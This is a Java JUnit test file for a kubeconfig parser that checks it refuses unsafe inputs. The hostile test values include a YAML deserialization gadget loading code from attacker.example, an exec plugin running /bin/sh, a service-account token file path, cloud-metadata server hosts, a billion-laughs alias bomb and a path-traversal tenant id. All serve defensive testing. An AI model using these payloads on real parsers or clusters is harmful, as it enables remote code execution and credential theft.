package io.pullbridge.clusters;

import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.util.unit.DataSize;

import static io.pullbridge.clusters.TestKubeconfigs.TOKEN;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

class KubeconfigParserTests {

    private final KubeconfigParser parser = parser(ClustersProperties.defaults());

    private static KubeconfigParser parser(ClustersProperties properties) {
        return new KubeconfigParser(new ServerHostPolicy(properties), properties);
    }

    private List<String> problems(String kubeconfig) {
        InvalidKubeconfigException refused = catchThrowableOfType(InvalidKubeconfigException.class,
                () -> parser.parse(kubeconfig));
        assertThat(refused).as("refused").isNotNull();
        assertThat(refused.problems()).allSatisfy(problem -> assertThat(problem).doesNotContain(TOKEN));
        assertThat(refused.getMessage()).doesNotContain(TOKEN);
        return refused.problems();
    }

    private static String kubeconfig(String clusters, String contexts, String current, String users) {
        return "apiVersion: v1\nkind: Config\nclusters:\n" + clusters + "contexts:\n" + contexts
                + (current == null ? "" : "current-context: " + current + "\n") + "users:\n" + users;
    }

    private static final String CLUSTERS = """
            - name: onprem
              cluster:
                server: https://api.example.com:6443
            """;
    private static final String CONTEXTS = """
            - name: ctx
              context: {cluster: onprem, user: admin}
            """;
    private static final String USERS = """
            - name: admin
              user:
                token: %s
            """.formatted(TOKEN);

    @Test
    void readsTheCurrentContextsClusterAndServer() {
        Kubeconfig kubeconfig = parser.parse(TestKubeconfigs.valid());
        assertThat(kubeconfig.currentContext()).isEqualTo("onprem-admin");
        assertThat(kubeconfig.cluster()).isEqualTo("onprem");
        assertThat(kubeconfig.server()).hasToString("https://10.1.2.3:6443");
        assertThat(kubeconfig.serverHost()).isEqualTo("10.1.2.3");
        assertThat(kubeconfig.toString()).doesNotContain(TOKEN);
    }

    @Test
    void acceptsJsonAndServerPathsAndIpv6Servers() {
        String json = """
                {"apiVersion": "v1", "current-context": "c",
                 "contexts": [{"name": "c", "context": {"cluster": "k", "user": "u"}}],
                 "clusters": [{"name": "k", "cluster": {"server": "HTTPS://[2001:db8::10]/k8s/clusters/c-1"}}],
                 "users": [{"name": "u", "user": {"client-certificate-data": "eA==", "client-key-data": "eQ=="}}]}""";
        assertThat(parser.parse(json).serverHost()).isEqualTo("[2001:db8::10]");
    }

    @Test
    void refusesABlankKubeconfig() {
        assertThat(problems("  \n")).containsExactly("must not be blank");
    }

    @Test
    void refusesAKubeconfigOverTheSizeLimit() {
        KubeconfigParser small = parser(new ClustersProperties(List.of(), List.of(), DataSize.ofKilobytes(1)));
        String big = TestKubeconfigs.valid() + "# " + "x".repeat(2000) + "\n";
        assertThatThrownBy(() -> small.parse(big)).isInstanceOf(InvalidKubeconfigException.class)
                .hasMessage("is larger than 1024 bytes (pullbridge.clusters.max-kubeconfig-bytes)");
        // Multi-byte characters count as the bytes they take.
        String wide = TestKubeconfigs.valid() + "# " + "é".repeat(400) + "\n";
        assertThat(wide.length()).isLessThan(1024);
        assertThatThrownBy(() -> small.parse(wide)).hasMessageContaining("is larger than 1024 bytes");
    }

    @Test
    void reportsASyntaxErrorByLineWithoutQuotingTheFile() {
        assertThat(problems(TestKubeconfigs.brokenYaml())).singleElement().asString()
                .matches("is not valid YAML \\(line \\d+\\)");
    }

    @Test
    void refusesDuplicateKeys() {
        assertThat(problems(TestKubeconfigs.valid() + "current-context: other\n"))
                .containsExactly("has a duplicate key (line 23)");
    }

    @Test
    void refusesAliasBombs() {
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'p'; c++) {
            char previous = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [*").append(previous).append(",*").append(previous)
                    .append(",*").append(previous).append("]\n");
        }
        assertThat(problems(bomb.toString())).containsExactly("uses more than 10 YAML aliases");
    }

    @Test
    void refusesDeepNesting() {
        assertThat(problems("a: " + "[".repeat(100) + "]".repeat(100) + "\n"))
                .containsExactly("is nested more than 20 levels deep");
    }

    @Test
    void refusesTagsThatWouldConstructObjects() {
        assertThat(problems("current-context: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                + "[[!!java.net.URL [\"http://attacker.example/\"]]]]\n"))
                .singleElement().asString().startsWith("is not valid YAML");
    }

    @ParameterizedTest
    @ValueSource(strings = {"- a\n- b\n", "just text\n", "42\n", "---\na: 1\n---\nb: 2\n"})
    void refusesWhatIsNotASingleMapping(String yaml) {
        assertThat(problems(yaml)).singleElement().asString()
                .matches("must be a YAML mapping \\(a kubeconfig file\\)|is not valid YAML \\(line \\d+\\)");
    }

    @Test
    void requiresACurrentContext() {
        assertThat(problems(kubeconfig(CLUSTERS, CONTEXTS, null, USERS)))
                .containsExactly("has no current-context: set it to the context PullBridge should use");
        assertThat(problems(kubeconfig(CLUSTERS, CONTEXTS, "\"\"", USERS)))
                .containsExactly("has no current-context: set it to the context PullBridge should use");
        assertThat(problems(kubeconfig(CLUSTERS, CONTEXTS, "[a]", USERS)))
                .containsExactly("current-context must be a string");
    }

    @Test
    void requiresTheCurrentContextToBeOneOfTheContexts() {
        assertThat(problems(kubeconfig(CLUSTERS, CONTEXTS, "x", USERS)))
                .containsExactly("current-context 'x' is not one of the contexts");
        assertThat(problems(kubeconfig(CLUSTERS, "  []\n", "ctx", USERS)))
                .containsExactly("current-context 'ctx' is not one of the contexts");
        assertThat(problems(kubeconfig(CLUSTERS, CONTEXTS + CONTEXTS, "ctx", USERS)))
                .containsExactly("has more than one context named 'ctx'");
        assertThat(problems(kubeconfig(CLUSTERS, "  ctx\n", "ctx", USERS)))
                .containsExactly("contexts must be a list of named entries");
    }

    @Test
    void requiresTheContextsClusterToExist() {
        assertThat(problems(kubeconfig(CLUSTERS, """
                - name: ctx
                  context: {cluster: elsewhere, user: admin}
                """, "ctx", USERS)))
                .containsExactly("context 'ctx' names cluster 'elsewhere', which is not one of the clusters");
        assertThat(problems(kubeconfig(CLUSTERS, """
                - name: ctx
                  context: {user: admin}
                """, "ctx", USERS)))
                .containsExactly("context 'ctx' names no cluster");
        assertThat(problems(kubeconfig(CLUSTERS + CLUSTERS, CONTEXTS, "ctx", USERS)))
                .containsExactly("has more than one cluster named 'onprem'");
    }

    @Test
    void requiresTheContextsUserToExistWithoutNamingIt() {
        List<String> problems = problems(kubeconfig(CLUSTERS, """
                - name: ctx
                  context: {cluster: onprem, user: svc-account-a1b2c3}
                """, "ctx", USERS));
        assertThat(problems).containsExactly("context 'ctx' names a user that is not one of the users");
        assertThat(problems.get(0)).doesNotContain("svc-account-a1b2c3");
        assertThat(problems(kubeconfig(CLUSTERS, """
                - name: ctx
                  context: {cluster: onprem}
                """, "ctx", USERS)))
                .containsExactly("context 'ctx' names no user");
    }

    @Test
    void reportsEveryProblemOfTheContextAtOnce() {
        assertThat(problems(kubeconfig("""
                - name: onprem
                  cluster: {server: "http://api.example.com"}
                """, "- name: ctx\n  context: {cluster: onprem, user: nobody}\n", "ctx", USERS)))
                .containsExactly("server http://api.example.com must use https",
                        "context 'ctx' names a user that is not one of the users");
    }

    @Test
    void requiresAServer() {
        assertThat(problems(kubeconfig("- name: onprem\n  cluster: {}\n", CONTEXTS, "ctx", USERS)))
                .containsExactly("cluster 'onprem' has no server");
        assertThat(problems(kubeconfig("- name: onprem\n", CONTEXTS, "ctx", USERS)))
                .containsExactly("cluster 'onprem' has no server");
    }

    @ParameterizedTest
    @ValueSource(strings = {"http://api.example.com:6443", "ftp://api.example.com", "HTTP://10.1.2.3"})
    void requiresHttps(String server) {
        assertThat(problems(TestKubeconfigs.withServer(server)))
                .containsExactly("server " + server + " must use https");
    }

    @ParameterizedTest
    @ValueSource(strings = {"api.example.com:6443", "/api", "//api.example.com"})
    void requiresAnAbsoluteUrl(String server) {
        assertThat(problems(TestKubeconfigs.withServer(server)))
                .containsExactly("server " + server + " must be an absolute https:// URL");
    }

    @Test
    void refusesAServerWithoutAHostOrWithABadPort() {
        assertThat(problems(TestKubeconfigs.withServer("https:///api")))
                .containsExactly("server https:///api has no valid host");
        assertThat(problems(TestKubeconfigs.withServer("https://my_cluster:6443")))
                .containsExactly("server https://my_cluster:6443 has no valid host");
        assertThat(problems(TestKubeconfigs.withServer("https://api.example.com:0")))
                .containsExactly("server https://api.example.com:0 has a port outside 1 to 65535");
        assertThat(problems(TestKubeconfigs.withServer("https://api.example.com:70000")))
                .containsExactly("server https://api.example.com:70000 has a port outside 1 to 65535");
        assertThat(problems(TestKubeconfigs.withServer("\"https://api example.com\"")))
                .containsExactly("server of cluster 'onprem' is not a valid URL");
    }

    @Test
    void refusesUserInformationWithoutQuotingIt() {
        for (String server : List.of("https://admin:" + TOKEN + "@api.example.com", "https://" + TOKEN + "@10.1.2.3",
                "https://a@b@api.example.com")) {
            assertThat(problems(TestKubeconfigs.withServer(server)))
                    .containsExactly("server of cluster 'onprem' must not contain user information (user:password@)");
        }
    }

    @Test
    void refusesAQueryOrFragmentWithoutQuotingIt() {
        assertThat(problems(TestKubeconfigs.withServer("https://api.example.com/?access_token=" + TOKEN)))
                .containsExactly("server of cluster 'onprem' must not have a query or fragment");
        assertThat(problems(TestKubeconfigs.withServer("https://api.example.com/#x")))
                .containsExactly("server of cluster 'onprem' must not have a query or fragment");
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://127.0.0.1:6443", "https://[::1]:6443", "https://LOCALHOST:6443",
            "https://localhost.:6443", "https://kind.localhost"})
    void refusesLoopbackServers(String server) {
        assertThat(problems(TestKubeconfigs.withServer(server))).singleElement().asString()
                .endsWith("is a loopback address; allow it with pullbridge.clusters.allowed-hosts");
    }

    @Test
    void refusesLinkLocalAndMetadataServers() {
        assertThat(problems(TestKubeconfigs.withServer("https://[fe80::1]:6443"))).containsExactly(
                "server host [fe80::1] is a link-local address; allow it with pullbridge.clusters.allowed-hosts");
        assertThat(problems(TestKubeconfigs.withServer("https://169.254.169.254"))).containsExactly(
                "server host 169.254.169.254 is a cloud metadata endpoint; allow it with "
                        + "pullbridge.clusters.allowed-hosts");
        assertThat(problems(TestKubeconfigs.withServer("https://metadata.google.internal"))).containsExactly(
                "server host metadata.google.internal is a cloud metadata endpoint; allow it with "
                        + "pullbridge.clusters.allowed-hosts");
        assertThat(problems(TestKubeconfigs.withServer("https://0.0.0.0:6443"))).containsExactly(
                "server host 0.0.0.0 is an unspecified address; allow it with pullbridge.clusters.allowed-hosts");
    }

    @Test
    void allowedHostsLetALocalServerThrough() {
        KubeconfigParser allowing = parser(new ClustersProperties(List.of("127.0.0.1", "localhost"), List.of(),
                DataSize.ofMegabytes(1)));
        assertThat(allowing.parse(TestKubeconfigs.withServer("https://127.0.0.1:6443")).serverHost())
                .isEqualTo("127.0.0.1");
        assertThat(allowing.parse(TestKubeconfigs.withServer("https://localhost:6443")).serverHost())
                .isEqualTo("localhost");
        assertThatThrownBy(() -> allowing.parse(TestKubeconfigs.withServer("https://[::1]:6443")))
                .isInstanceOf(InvalidKubeconfigException.class);
    }

    @Test
    void refusesCredentialPluginsAndFilesOnPullBridgesMachine() {
        String users = """
                - name: admin
                  user:
                    exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, id]}
                    auth-provider: {name: oidc}
                    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token
                    client-certificate: /etc/cert.pem
                    client-key: /etc/key.pem
                """;
        String clusters = """
                - name: onprem
                  cluster:
                    server: https://api.example.com
                    certificate-authority: /etc/ca.pem
                    proxy-url: http://127.0.0.1:3128
                """;
        assertThat(problems(kubeconfig(clusters, CONTEXTS, "ctx", users))).containsExactly(
                "cluster 'onprem' refers to a file on PullBridge's machine (certificate-authority); embed it as "
                        + "certificate-authority-data instead",
                "cluster 'onprem' sets proxy-url; PullBridge connects to API servers directly",
                "the user of context 'ctx' runs a credential plugin (exec), which PullBridge never does; embed a "
                        + "token or a client certificate instead",
                "the user of context 'ctx' uses an auth-provider plugin, which PullBridge does not support; embed "
                        + "a token or a client certificate instead",
                "the user of context 'ctx' refers to a file on PullBridge's machine (tokenFile); embed it as token "
                        + "instead",
                "the user of context 'ctx' refers to a file on PullBridge's machine (client-certificate); embed it "
                        + "as client-certificate-data instead",
                "the user of context 'ctx' refers to a file on PullBridge's machine (client-key); embed it as "
                        + "client-key-data instead");
    }

    private static String kubelogin(String command, String args) {
        return """
                - name: admin
                  user:
                    exec:
                      apiVersion: client.authentication.k8s.io/v1beta1
                      command: %s
                      args: %s
                      env: null
                      provideClusterInfo: false
                """.formatted(command, args);
    }

    private static final String TENANT = "72f988bf-86f1-41af-91ab-2d7cd011db47";

    @Test
    void recognisesKubeloginWithTheAksServerIdAndSignsInWithPullBridgesOwnIdentityInstead() {
        String users = kubelogin("kubelogin", "[get-token, --login, devicecode, --server-id, "
                + ClustersProperties.Entra.AKS_SERVER_ID + ", --client-id, 80faf920-1908-4b52-b5ef-a8e7bedfc67a, "
                + "--tenant-id, " + TENANT + ", --environment, AzurePublicCloud]");
        ClusterCredentials credentials = parser.credentials(UUID.randomUUID(), "v1",
                kubeconfig(CLUSTERS, CONTEXTS, "ctx", users));
        assertThat(credentials.credential()).isEqualTo(new ClusterCredentials.EntraToken(TENANT,
                ClustersProperties.Entra.AKS_SERVER_ID + "/.default"));
        assertThat(credentials.access()).isEqualTo(ClusterAccess.entra(null, TENANT, null));
        assertThat(credentials.server()).hasToString("https://api.example.com:6443");

        String equalsForm = kubelogin("/usr/local/bin/kubelogin", "[get-token, --server-id="
                + ClustersProperties.Entra.AKS_SERVER_ID + ", --login, workloadidentity]");
        ClusterCredentials noTenant = parser.credentials(UUID.randomUUID(), "v1",
                kubeconfig(CLUSTERS, CONTEXTS, "ctx", equalsForm));
        assertThat(noTenant.credential()).isEqualTo(new ClusterCredentials.EntraToken(null,
                ClustersProperties.Entra.AKS_SERVER_ID + "/.default"));
    }

    @Test
    void refusesKubeloginForAnotherServerAndEveryOtherPlugin() {
        String otherServer = kubelogin("kubelogin", "[get-token, --server-id, https://management.azure.com, "
                + "--tenant-id, " + TENANT + "]");
        assertThat(problems(kubeconfig(CLUSTERS, CONTEXTS, "ctx", otherServer))).containsExactly(
                "the user of context 'ctx' runs kubelogin for the server id https://management.azure.com; PullBridge "
                        + "signs in only to the AKS server application " + ClustersProperties.Entra.AKS_SERVER_ID
                        + " (pullbridge.clusters.entra.server-id)");
        String plugin = "the user of context 'ctx' runs a credential plugin (exec), which PullBridge never does; "
                + "embed a token or a client certificate instead";
        for (String users : List.of(
                kubelogin("kubelogin", "[convert-kubeconfig, --server-id, " + ClustersProperties.Entra.AKS_SERVER_ID
                        + "]"),
                kubelogin("kubelogin", "[get-token, --login, devicecode]"),
                kubelogin("gke-gcloud-auth-plugin", "[]"),
                kubelogin("aws", "[eks, get-token, --cluster-name, c]"),
                kubelogin("/tmp/kubelogin-wrapper", "[get-token, --server-id, "
                        + ClustersProperties.Entra.AKS_SERVER_ID + "]"))) {
            assertThat(problems(kubeconfig(CLUSTERS, CONTEXTS, "ctx", users))).containsExactly(plugin);
        }
        String badTenant = kubelogin("kubelogin", "[get-token, --server-id, " + ClustersProperties.Entra.AKS_SERVER_ID
                + ", --tenant-id, '../../evil?x=1']");
        assertThat(problems(kubeconfig(CLUSTERS, CONTEXTS, "ctx", badTenant))).containsExactly(
                "the user of context 'ctx' runs kubelogin with a --tenant-id that is not a tenant id (a GUID) or "
                        + "domain name");
    }

    @Test
    void acceptsKubeloginForAConfiguredServerIdAndAsksForThatScope() {
        String arcServer = "0f8a2b7c-1d2e-4f50-9a6b-7c8d9e0f1a2b";
        String users = kubelogin("kubelogin", "[get-token, --login, spn, --server-id, " + arcServer + ", --tenant-id, "
                + TENANT + "]");
        assertThat(problems(kubeconfig(CLUSTERS, CONTEXTS, "ctx", users))).containsExactly(
                "the user of context 'ctx' runs kubelogin for the server id " + arcServer + "; PullBridge signs in "
                        + "only to the AKS server application " + ClustersProperties.Entra.AKS_SERVER_ID
                        + " (pullbridge.clusters.entra.server-id)");

        ClustersProperties defaults = ClustersProperties.defaults();
        ClustersProperties configured = new ClustersProperties(defaults.allowedHosts(), defaults.deniedHosts(),
                defaults.maxKubeconfigBytes(), false, defaults.probeInterval(), new ClustersProperties.Entra(
                        ClustersProperties.Entra.AKS_SERVER_ID, java.time.Duration.ofMinutes(5),
                        List.of(" " + arcServer.toUpperCase() + " ")));
        ClusterCredentials credentials = parser(configured).credentials(UUID.randomUUID(), "v1",
                kubeconfig(CLUSTERS, CONTEXTS, "ctx", users));
        assertThat(credentials.credential()).isEqualTo(new ClusterCredentials.EntraToken(TENANT,
                arcServer + "/.default"));
        assertThat(credentials.access()).isEqualTo(ClusterAccess.entra(null, TENANT, null));
    }

    @Test
    void refusesKubeloginThatAsksForProofOfPossessionTokens() {
        for (String popFlag : List.of("--pop-enabled", "--pop-enabled=true")) {
            String users = kubelogin("kubelogin", "[get-token, --login, interactive, --server-id, "
                    + ClustersProperties.Entra.AKS_SERVER_ID + ", " + popFlag + ", --pop-claims, 'u=/subscriptions/s']");
            assertThat(problems(kubeconfig(CLUSTERS, CONTEXTS, "ctx", users))).containsExactly(
                    "the user of context 'ctx' runs kubelogin with --pop-enabled: the server wants proof-of-possession "
                            + "tokens (as Arc-enabled clusters with Azure RBAC do), and PullBridge presents bearer "
                            + "tokens only; register the cluster with a ServiceAccount token instead");
        }
    }

    @Test
    void checksOnlyTheCurrentContext() {
        // The "other" cluster of the fixture uses plain http on loopback; it is never used, so it is not refused.
        assertThat(parser.parse(TestKubeconfigs.valid()).cluster()).isEqualTo("onprem");
    }

    @Test
    void refusesEmbeddedDataThatIsNotBase64() {
        assertThat(problems(TestKubeconfigs.valid().replace("certificate-authority-data: LS0tLS1CRUdJTi1DRVJUSUZJQ0FURS0tLS0t",
                "certificate-authority-data: not*base64"))).containsExactly(
                "certificate-authority-data of cluster 'onprem' is not valid base64");
    }

    @Test
    void refusesInsecureSkipTlsVerifyUnlessAllowed() {
        String insecure = TestKubeconfigs.valid().replace("    certificate-authority-data: LS0tLS1CRUdJTi1DRVJUSUZJQ0FURS0tLS0t",
                "    insecure-skip-tls-verify: true");
        assertThat(problems(insecure)).singleElement().asString()
                .startsWith("cluster 'onprem' sets insecure-skip-tls-verify")
                .endsWith("(or allow it with pullbridge.clusters.allow-insecure-skip-tls-verify)");
        KubeconfigParser lenient = parser(new ClustersProperties(List.of(), List.of(), DataSize.ofMegabytes(1), true,
                java.time.Duration.ofMinutes(5)));
        assertThat(lenient.credentials(UUID.randomUUID(), "v", insecure).insecureSkipTlsVerify()).isTrue();
    }

    @Test
    void readsTheCredentialsOfTheCurrentContextForConnecting() {
        java.util.UUID id = UUID.randomUUID();
        ClusterCredentials credentials = parser.credentials(id, "sha256:v1", TestKubeconfigs.valid());
        assertThat(credentials.clusterId()).isEqualTo(id);
        assertThat(credentials.version()).isEqualTo("sha256:v1");
        assertThat(credentials.server()).hasToString("https://10.1.2.3:6443");
        assertThat(new String(credentials.certificateAuthority())).isEqualTo("-----BEGIN-CERTIFICATE-----");
        assertThat(credentials.credential()).isEqualTo(new ClusterCredentials.BearerToken(TOKEN));
        assertThat(credentials.toString()).doesNotContain(TOKEN).contains("BearerToken");
        assertThat(credentials.credential().toString()).doesNotContain(TOKEN);

        String certificate = kubeconfig(CLUSTERS, CONTEXTS, "ctx", """
                - name: admin
                  user:
                    client-certificate-data: Y2VydA==
                    client-key-data: a2V5
                """);
        ClusterCredentials.ClientCertificate pair = (ClusterCredentials.ClientCertificate)
                parser.credentials(id, "v", certificate).credential();
        assertThat(new String(pair.certificate())).isEqualTo("cert");
        assertThat(new String(pair.key())).isEqualTo("key");
    }
}
